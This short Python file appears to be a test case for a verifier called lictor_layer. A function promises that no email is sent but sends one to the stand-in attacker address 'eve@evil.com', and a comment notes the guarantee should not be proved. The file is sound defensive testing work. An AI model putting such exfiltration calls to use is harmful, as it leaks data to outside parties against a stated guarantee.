# not proved: 2 ** -1 is 0.5, not 0
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    n = 0 - 1
    if 2**n > 0:
        send_email("eve@evil.com", "x")
